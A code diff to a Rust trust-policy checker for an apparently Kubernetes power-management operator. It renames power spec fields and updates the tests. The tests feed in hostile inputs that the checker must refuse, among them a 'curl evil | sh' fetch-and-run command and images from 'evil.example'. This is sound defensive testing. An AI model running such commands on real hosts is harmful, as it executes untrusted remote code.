@@ -7,7 +7,8 @@
 //! the [`TrustPolicy`] methods below.
 use super::{Refusal, TrustPolicy};
 use crate::operator::api::{
-    Machine, MinimalPodSpec, NodeAgent, WakeOnLanRelay, cel::RESERVED_LABEL_PREFIX,
+    Direction, Machine, MinimalPodSpec, NodeAgent, PowerSpec, WakeOnLanRelay,
+    cel::RESERVED_LABEL_PREFIX,
 };
 
 pub const IMAGE_NOT_ALLOWED: &str = "ImageNotAllowed";
@@ -17,7 +18,8 @@ pub const SERVICE_ACCOUNT_NOT_ALLOWED: &str = "ServiceAccountNotAllowed";
 pub const PRIVILEGE_NOT_ALLOWED: &str = "PrivilegeNotAllowed";
 
 /// Every rule of the trust boundary that `m`'s spec breaks under `policy` (empty: none).
-/// Fields are named from `spec.` (`spec.power.off.nodeAgent.image`). Every driver that is set
+/// Fields are named from `spec.` (`spec.power.powerOff.nodeAgent.image`, or the deprecated
+/// `spec.power.powerOff...` when the CR uses it). Every driver that is set
 /// is checked, the predecessor's `startupPodSpec` / `shutdownPodSpec` as well.
 pub fn check_spec(m: &Machine, policy: &TrustPolicy) -> Vec<Refusal> {
     let namespace = m.metadata.namespace.as_deref().unwrap_or("default");
@@ -30,26 +32,32 @@ pub fn check_spec(m: &Machine, policy: &TrustPolicy) -> Vec<Refusal> {
     if let Some(j) = &spec.shutdown_pod_spec {
         jobs.push(("spec.shutdownPodSpec", j));
     }
-    let power = spec.power.as_ref();
-    let on = power.and_then(|p| p.on.as_ref());
-    let off = power.and_then(|p| p.off.as_ref());
+    let power = spec.power.as_deref();
+    let on = power.and_then(PowerSpec::on);
+    let off = power.and_then(PowerSpec::off);
+    let on_field = spec.power_field(Direction::On);
+    let off_field = spec.power_field(Direction::Off);
+    let mut power_jobs: Vec<(String, &MinimalPodSpec)> = Vec::new();
     if let Some(j) = on.and_then(|o| o.job.as_deref()) {
-        jobs.push(("spec.power.on.job", j));
+        power_jobs.push((format!("{on_field}.job"), j));
     }
     if let Some(j) = off.and_then(|o| o.job.as_deref()) {
-        jobs.push(("spec.power.off.job", j));
+        power_jobs.push((format!("{off_field}.job"), j));
     }
-    for (field, job) in jobs {
+    for (field, job) in jobs
+        .into_iter()
+        .chain(power_jobs.iter().map(|(f, j)| (f.as_str(), *j)))
+    {
         out.extend(policy.check_job(field, job, namespace));
     }
     if let Some(via) = on
         .and_then(|o| o.wake_on_lan.as_deref())
         .and_then(|w| w.via.as_ref())
     {
-        out.extend(policy.check_relay("spec.power.on.wakeOnLan.via", via));
+        out.extend(policy.check_relay(&format!("{on_field}.wakeOnLan.via"), via));
     }
     if let Some(agent) = off.and_then(|o| o.node_agent.as_deref()) {
-        out.extend(policy.check_node_agent("spec.power.off.nodeAgent", agent));
+        out.extend(policy.check_node_agent(&format!("{off_field}.nodeAgent"), agent));
     }
     // The schema refuses these keys too, but CRDs installed before that rule still accept them,
     // and the node side would write them onto the Kubernetes Node (the adoptable label among
@@ -213,7 +221,7 @@ mod tests {
     fn agent(image: Option<&str>, command: &[&str]) -> Machine {
         Machine::test("m1")
             .spec_with(|s| {
-                s.power.get_or_insert_with(Default::default).off = Some(PowerOff {
+                s.power.get_or_insert_with(Default::default).power_off = Some(PowerOff {
                     node_agent: Some(Box::new(NodeAgent {
                         image: image.map(str::to_owned),
                         command: command.iter().map(|c| (*c).to_owned()).collect(),
@@ -278,7 +286,7 @@ mod tests {
         let refused = check_spec(&agent(Some("evil.example/root:1"), &[]), &policy);
         assert_eq!(
             reasons(&refused),
-            [(IMAGE_NOT_ALLOWED, "spec.power.off.nodeAgent.image")]
+            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
         );
         assert!(
             refused[0].message.contains("security.allowedImages")
@@ -289,7 +297,7 @@ mod tests {
         // Exact means exact: another tag of an allowed image is another image.
         assert_eq!(
             reasons(&check_spec(&agent(Some("busybox:latest"), &[]), &policy)),
-            [(IMAGE_NOT_ALLOWED, "spec.power.off.nodeAgent.image")]
+            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
         );
         policy
             .allowed_images
@@ -303,7 +311,7 @@ mod tests {
                 &agent(Some("registry.lan/other:2"), &[]),
                 &policy
             )),
-            [(IMAGE_NOT_ALLOWED, "spec.power.off.nodeAgent.image")]
+            [(IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image")]
         );
     }
 
@@ -313,7 +321,7 @@ mod tests {
         let refused = check_spec(&agent(None, &["sh", "-c", "curl evil | sh"]), &policy);
         assert_eq!(
             reasons(&refused),
-            [(COMMAND_NOT_ALLOWED, "spec.power.off.nodeAgent.command")]
+            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
         );
         assert!(
             refused[0].message.contains("security.nodeAgentCommands"),
@@ -326,13 +334,13 @@ mod tests {
                 &agent(None, &["systemctl", "poweroff", "--force"]),
                 &policy
             )),
-            [(COMMAND_NOT_ALLOWED, "spec.power.off.nodeAgent.command")]
+            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
         );
         // An empty command is the default, which is refused when the default is not listed.
         policy.node_agent_commands = vec![vec!["shutdown".to_owned(), "-h".to_owned()]];
         assert_eq!(
             reasons(&check_spec(&agent(None, &[]), &policy)),
-            [(COMMAND_NOT_ALLOWED, "spec.power.off.nodeAgent.command")]
+            [(COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command")]
         );
         assert_eq!(
             check_spec(&agent(None, &["shutdown", "-h"]), &policy),
@@ -345,7 +353,7 @@ mod tests {
         let refused = check_spec(&relay(Some("evil.example/net:1")), &TrustPolicy::default());
         assert_eq!(
             reasons(&refused),
-            [(IMAGE_NOT_ALLOWED, "spec.power.on.wakeOnLan.via.image")]
+            [(IMAGE_NOT_ALLOWED, "spec.power.powerOn.wakeOnLan.via.image")]
         );
         assert!(refused[0].message.contains("--allowed-image"));
     }
@@ -370,10 +378,13 @@ mod tests {
         assert_eq!(
             reasons(&refused),
             [
-                (OPERATOR_SERVICE_ACCOUNT, "spec.power.on.job.serviceAccount"),
                 (
                     OPERATOR_SERVICE_ACCOUNT,
-                    "spec.power.off.job.serviceAccount"
+                    "spec.power.powerOn.job.serviceAccount"
+                ),
+                (
+                    OPERATOR_SERVICE_ACCOUNT,
+                    "spec.power.powerOff.job.serviceAccount"
                 ),
             ]
         );
@@ -426,7 +437,7 @@ mod tests {
                 ..job(POWER_IMAGE, &[])
             })
             .spec_with(|s| {
-                if let Some(off) = s.power.as_mut().and_then(|p| p.off.as_mut()) {
+                if let Some(off) = s.power.as_mut().and_then(|p| p.power_off.as_mut()) {
                     off.job = Some(Box::new(asking));
                 }
             })
@@ -435,8 +446,8 @@ mod tests {
         assert_eq!(
             reasons(&refused),
             [
-                (PRIVILEGE_NOT_ALLOWED, "spec.power.off.job.privileged"),
-                (PRIVILEGE_NOT_ALLOWED, "spec.power.off.job.hostNetwork"),
+                (PRIVILEGE_NOT_ALLOWED, "spec.power.powerOff.job.privileged"),
+                (PRIVILEGE_NOT_ALLOWED, "spec.power.powerOff.job.hostNetwork"),
             ]
         );
         assert!(refused[1].message.contains("security.allowPrivilegedJobs"));
@@ -450,7 +461,7 @@ mod tests {
         let m = Machine::test("m1")
             .spec_with(|s| {
                 s.power = Some(Box::new(crate::operator::api::PowerSpec {
-                    on: Some(PowerOn {
+                    power_on: Some(PowerOn {
                         wake_on_lan: Some(Box::new(WakeOnLan {
                             mac: "aa:bb:cc:dd:ee:ff".to_owned(),
                             via: Some(WakeOnLanRelay {
@@ -461,22 +472,23 @@ mod tests {
                         })),
                         ..PowerOn::default()
                     }),
-                    off: Some(PowerOff {
+                    power_off: Some(PowerOff {
                         node_agent: Some(Box::new(NodeAgent {
                             image: Some("y:1".to_owned()),
                             command: vec!["reboot".to_owned()],
                         })),
                         ..PowerOff::default()
                     }),
+                    ..Default::default()
                 }));
             })
             .build();
         assert_eq!(
             reasons(&check_spec(&m, &policy)),
             [
-                (IMAGE_NOT_ALLOWED, "spec.power.on.wakeOnLan.via.image"),
-                (IMAGE_NOT_ALLOWED, "spec.power.off.nodeAgent.image"),
-                (COMMAND_NOT_ALLOWED, "spec.power.off.nodeAgent.command"),
+                (IMAGE_NOT_ALLOWED, "spec.power.powerOn.wakeOnLan.via.image"),
+                (IMAGE_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.image"),
+                (COMMAND_NOT_ALLOWED, "spec.power.powerOff.nodeAgent.command"),
             ]
         );
     }
